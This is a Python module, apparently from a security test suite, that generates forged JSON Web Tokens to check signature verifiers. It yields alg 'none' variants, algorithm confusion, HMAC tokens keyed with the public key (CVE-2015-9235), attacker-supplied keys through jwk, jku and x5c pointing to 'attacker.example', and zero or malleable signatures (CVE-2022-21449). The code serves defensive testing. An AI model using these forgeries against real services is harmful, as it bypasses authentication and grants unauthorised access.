"""Tokens without a signature, or signed by a key or an algorithm that isn't trusted."""

from __future__ import annotations

from base64 import b64encode
from collections.abc import Iterator
from datetime import UTC, datetime
from json import dumps
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicKey
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from ..jose.algorithms import ALGORITHMS
from ..jose.jwk import Key, PrivateKey, PublicKey
from ..jose.jws import join
from ..jose.strict_json import b64url_encode
from .attack import Attack, Forge, in_bearer
from .mint import ABSENT, json_octets, sealed


def algorithms(forge: Forge) -> Iterator[Attack]:
    """The header `alg` says another algorithm than the key's, or none (RFC 8725 s2.1)."""
    for name, spelling in (
        *((spelling, spelling) for spelling in ("none", "None", "NONE", "nOnE")),
        ("none-with-space", "none "),
        ("none-with-zero-width-space", "no\u200bne"),
        ("empty", ""),
    ):
        message = forge.message(header={"alg": spelling})
        yield in_bearer(f"alg-{name}-unsigned", "RS-14", message.decode() + ".")
        yield in_bearer(f"alg-{name}-signed", "RS-14", sealed(message, forge.key))
    own = forge.key.algorithm
    yield in_bearer("unsigned", "RS-14", forge.message().decode() + ".")
    for name, value in (
        ("lower-case", own.name.lower()),
        ("with-space", f"{own.name} "),
        ("as-array", [own.name]),
        ("as-object", {"alg": own.name}),
        ("as-number", 1),
        ("as-true", True),
        ("null", None),
        ("unknown", "XS256"),
        ("missing", ABSENT),
    ):
        yield in_bearer(f"alg-{name}", "RS-14", forge.token(header={"alg": value}))
    for name, cousin in ALGORITHMS.items():
        if cousin != own and (cousin.kty, cousin.crv) == (own.kty, own.crv):
            message = forge.message(header={"alg": name})
            token = join(message, cousin.primitive.sign(message, forge.key.private))
            yield in_bearer(f"alg-{name.lower()}-by-the-same-key", "RS-16", token)


def public_key_as_secret(forge: Forge) -> Iterator[Attack]:
    """The public key, which is known to all, as the secret of an HMAC (CVE-2015-9235)."""
    for name, secret in (("empty", b""), ("nul", b"\0"), ("word", b"secret")):
        yield in_bearer(f"hs256-by-{name}-secret", "RS-16", forge.by_hmac(secret))
    if forge.key.public is None:
        return
    for name, secret in _forms_of_a_public_key(forge.key, forge.key.public).items():
        for algorithm in ("HS256", "HS512"):
            token = forge.by_hmac(secret, alg=algorithm)
            yield in_bearer(f"{algorithm.lower()}-by-public-key-{name}", "RS-16", token)


def _forms_of_a_public_key(key: Key, public: PublicKey) -> dict[str, bytes]:
    """Return the forms in which libraries have taken a public key for a secret."""
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    members = key.public_jwk()
    forms = {
        "pem": pem,
        "pem-without-last-newline": pem.strip(),
        "pem-after-a-newline": b"\n" + pem,
        "pem-after-a-byte-order-mark": b"\xef\xbb\xbf" + pem,
        "pem-with-crlf": pem.replace(b"\n", b"\r\n"),
        "pem-without-its-frame": b"".join(pem.splitlines()[1:-1]),
        "der": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "ssh": public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "jwk": json_octets(members),
        "jwk-with-spaces": dumps(members).encode(),
        "jwks": json_octets({"keys": [members]}),
    }
    if not isinstance(public, RSAPublicKey):
        return forms | {"coordinate-in-base64url": members["x"].encode()}
    modulus = public.public_numbers().n
    return forms | {
        "pkcs1": public.public_bytes(Encoding.PEM, PublicFormat.PKCS1),
        "modulus-in-base64url": members["n"].encode(),
        "modulus": modulus.to_bytes((modulus.bit_length() + 7) // 8),
    }


def embedded_keys(forge: Forge) -> Iterator[Attack]:
    """A key of the attacker's, in the token or where the token points (RFC 8725 s3.10)."""
    stranger = forge.stranger()
    url = "https://attacker.example/keys"
    members: dict[str, dict[str, Any]] = {
        "key-of-a-stranger": {},
        "jku": {"jku": url},
        "jku-to-a-file": {"jku": "file:///etc/hostname"},
        "x5u": {"x5u": url},
        "x5t": {"x5t": "AAAAAAAAAAAAAAAAAAAAAAAAAAA"},
    }
    if stranger.private is None or isinstance(stranger.private, bytes):
        members["jwk"] = {"jwk": stranger.to_jwk()}
    else:
        members["jwk"] = {"jwk": stranger.public_jwk()}
        members["x5c"] = {"x5c": [_certificate(stranger.private)]}
    for name, member in members.items():
        for how, kid in (("", forge.key.kid), ("-without-kid", ABSENT)):
            message = forge.message(header={**member, "kid": kid})
            yield in_bearer(f"{name}{how}", "RS-21", sealed(message, stranger))


def _certificate(key: PrivateKey) -> str:
    """Return a certificate that the key has given itself, as in `x5c` (RFC 7515 s4.1.6)."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "login.example")])
    builder = x509.CertificateBuilder(name, name, key.public_key(), x509.random_serial_number())
    builder = builder.not_valid_before(datetime(2020, 1, 1, tzinfo=UTC))
    builder = builder.not_valid_after(datetime(2120, 1, 1, tzinfo=UTC))
    signed = builder.sign(key, None if isinstance(key, Ed25519PrivateKey) else SHA256())
    return b64encode(signed.public_bytes(Encoding.DER)).decode()


def signatures(forge: Forge) -> Iterator[Attack]:
    """A signature that is damaged, of another token, or that weak verifiers have accepted."""
    message = forge.message()
    signature = forge.key.sign(message)
    other = forge.key.sign(forge.message(sub="bob"))
    flipped = bytes((signature[0] ^ 1,)) + signature[1:]
    for name, value in (
        ("of-zeros", bytes(len(signature))),  # CVE-2022-21449: (r, s) = (0, 0)
        ("of-ones", b"\xff" * len(signature)),
        ("of-one-octet", b"\0"),
        ("with-a-flipped-bit", flipped),
        ("cut-short", signature[:-1]),
        ("with-an-octet-more", signature + b"\0"),
        ("with-an-octet-in-front", b"\0" + signature),
        ("of-another-token", other),
        *_signatures_of_its_kind(forge.key, signature).items(),
    ):
        yield in_bearer(f"signature-{name}", "RS-05", join(message, value))
    admin = b64url_encode(forge.with_claims(sub="admin"))
    swapped = message.partition(b".")[0] + b"." + admin
    yield in_bearer("claims-exchanged", "RS-05", join(swapped, signature))


def _signatures_of_its_kind(key: Key, signature: bytes) -> dict[str, bytes]:
    half = len(signature) // 2
    first, second = signature[:half], signature[half:]
    match key.algorithm.kty:
        case "EC":
            return {
                "with-r-zero": bytes(half) + second,
                "with-s-zero": first + bytes(half),
                "in-der": encode_dss_signature(int.from_bytes(first), int.from_bytes(second)),
            }
        case "OKP":
            # RFC 8032 s5.1.7: S not below the group's order would be a second signature of one
            # message.
            order = 2**252 + 27742317777372353535851937790883648493
            beyond = int.from_bytes(second, "little") + order
            return {"with-s-beyond-the-order": first + beyond.to_bytes(half, "little")}
        case "RSA":
            return {"of-the-number-one": bytes(len(signature) - 1) + b"\1"}
        case _:
            return {}
